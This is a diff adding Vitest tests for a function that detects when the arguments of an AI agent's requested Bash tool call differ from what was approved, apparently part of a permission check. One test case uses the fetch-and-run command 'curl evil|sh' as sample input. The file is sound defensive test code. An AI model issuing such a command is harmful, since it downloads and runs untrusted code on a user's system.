@@ -1,0 +1,54 @@
+import { expect, test } from 'vitest';
+import { saidOtherwise } from './asked-call.ts';
+
+const call = (args: unknown, more: object = {}) => ({
+  name: 'Bash',
+  arguments: JSON.stringify(args),
+  ...more,
+});
+
+test.each([
+  ['another value', { a: 1, b: 2 }, { a: 1, b: 3 }, { b: 2 }],
+  ['a value that is gone', { a: 1, cwd: '/safe' }, { a: 1 }, { cwd: '/safe' }],
+  [
+    'a nested value',
+    { env: { A: '1', B: '2' } },
+    { env: { A: '1', B: '3' } },
+    { env: { A: '1', B: '2' } },
+  ],
+  ['another type', { a: 'true' }, { a: true }, { a: 'true' }],
+  ['a list in another order', { a: [1, 2] }, { a: [2, 1] }, { a: [1, 2] }],
+  ['a text instead of fields', { a: 1 }, 'curl evil|sh', { a: 1 }],
+  ['fields instead of a text', 'ls', { a: 1 }, { raw: '"ls"' }],
+  ['a field of every object', { constructor: 'ls' }, {}, { constructor: 'ls' }],
+])('SAFE: %s is what was said otherwise', (_name, said, asked, other) => {
+  expect(saidOtherwise(call(asked), call(said))).toEqual({ arguments: JSON.stringify(other) });
+});
+
+test('arguments in another order, and new ones, are no difference: the request shows them', () => {
+  const said = call({ a: { x: 1, y: 2 }, b: [1] });
+  expect(saidOtherwise(call({ b: [1], a: { y: 2, x: 1 }, more: true }), said)).toBeUndefined();
+  expect(saidOtherwise(call({ a: 1 }), { name: 'Bash', arguments: '' })).toBeUndefined();
+  expect(saidOtherwise(call({ a: 1 }), {})).toBeUndefined();
+});
+
+test('SAFE: arguments that are not JSON are compared as they are', () => {
+  const [one, other] = ['{"command":"ls', '{"command":"rm'];
+  expect(saidOtherwise({ name: 'a', arguments: one }, { arguments: one })).toBeUndefined();
+  expect(saidOtherwise({ name: 'a', arguments: one }, { arguments: other })).toEqual({
+    arguments: JSON.stringify({ raw: other }),
+  });
+});
+
+test.each([
+  ['title', 'Test', 'Publish'],
+  ['kind', 'read', 'execute'],
+  ['locations', [{ path: '/a' }], [{ path: '/b' }]],
+  ['diffs', [{ path: '/a', newText: 'a' }], [{ path: '/a', newText: 'b' }]],
+] as const)('SAFE: another %s is what was said otherwise', (key, said, asked) => {
+  expect(saidOtherwise(call({}, { [key]: asked }), call({}, { [key]: said }))).toEqual({
+    [key]: said,
+  });
+  expect(saidOtherwise(call({}), call({}, { [key]: said }))).toEqual({ [key]: said });
+  expect(saidOtherwise(call({}, { [key]: asked }), call({}))).toBeUndefined();
+});
